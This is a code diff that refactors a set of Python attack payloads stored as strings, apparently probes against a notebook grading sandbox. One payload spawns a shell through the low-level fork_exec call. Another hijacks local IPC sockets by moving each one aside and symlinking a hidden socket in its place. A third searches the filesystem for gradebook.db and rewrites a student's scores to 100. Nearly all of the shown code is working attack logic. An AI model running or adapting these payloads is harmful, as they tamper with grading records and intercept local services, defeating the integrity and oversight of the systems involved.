@@ -88,6 +88,14 @@ def _shell(script):
     r, w = os.pipe()
     return _posixsubprocess.fork_exec([b"/bin/sh", b"-c", script.encode()], [b"/bin/sh"], True, (), None, None,
         -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None, False)
+def _shell_said(script, out, tries):
+    import time
+    _shell(f"{script}; echo done >> {out}")  # the script writes to out; 'done' once it has ended
+    for _ in range(tries):
+        if os.path.exists(out) and "done" in open(out).read():
+            break
+        time.sleep(0.05)
+    print(open(out).read() if os.path.exists(out) else "the shell wrote nothing")
 """
 
 
@@ -96,16 +104,10 @@ def _shell(script):
 SOCKET_SWAPPER = (
     FORK_EXEC
     + r"""
-import time
 bound = [line.split()[-1] for line in open("/proc/net/unix") if "/" in line.split()[-1]]
 paths = " ".join(sorted({p for p in bound if os.path.basename(p).startswith("ipc")}))
-_shell(f'for p in {paths}; do if mv "$p" "$p.gone" 2>/dev/null && ln -s /run/hidden.sock "$p"; then '
-       'echo "SWAPPED $p"; else echo "KEPT $p"; fi; done > swap.txt 2>&1; echo done >> swap.txt')
-for _ in range(100):
-    if os.path.exists("swap.txt") and "done" in open("swap.txt").read():
-        break
-    time.sleep(0.05)
-print(open("swap.txt").read())
+_shell_said(f'for p in {paths}; do if mv "$p" "$p.gone" 2>/dev/null && ln -s /run/hidden.sock "$p"; then '
+            'echo "SWAPPED $p"; else echo "KEPT $p"; fi; done > swap.txt 2>&1', "swap.txt", 100)
 """
 )
 
@@ -127,7 +129,7 @@ PRELOCK_SWAPPER = (
 GRADEBOOK_WRITER = (
     FORK_EXEC
     + r"""
-import os, sqlite3, time
+import os, sqlite3
 _OWN = ("UPDATE grade SET manual_score = 100 WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn "
         "JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = 'STUDENT')")
 guesses = {os.path.abspath(p) for p in ("../../../gradebook.db", "../../gradebook.db", "../gradebook.db")}
@@ -140,14 +142,9 @@ for path in sorted(guesses):
         print("WROTE", path)
     except Exception as e:
         print("could not write", path, type(e).__name__)
-_shell("for p in $(find / \\( -path /proc -o -path /sys \\) -prune -o -name gradebook.db -print 2>/dev/null | head -5); do "
-       "python3 -c 'import sqlite3, sys; c = sqlite3.connect(sys.argv[1]); c.execute(sys.argv[2]); c.commit()' "
-       f"\"$p\" \"{_OWN}\" && echo \"SHELL WROTE $p\"; done > gb.txt 2>&1; echo done >> gb.txt")
-for _ in range(400):
-    if os.path.exists("gb.txt") and "done" in open("gb.txt").read():
-        break
-    time.sleep(0.05)
-print(open("gb.txt").read() if os.path.exists("gb.txt") else "the shell wrote nothing")
+_shell_said("for p in $(find / \\( -path /proc -o -path /sys \\) -prune -o -name gradebook.db -print 2>/dev/null | head -5); do "
+            "python3 -c 'import sqlite3, sys; c = sqlite3.connect(sys.argv[1]); c.execute(sys.argv[2]); c.commit()' "
+            f"\"$p\" \"{_OWN}\" && echo \"SHELL WROTE $p\"; done > gb.txt 2>&1", "gb.txt", 400)
 """
 )
 
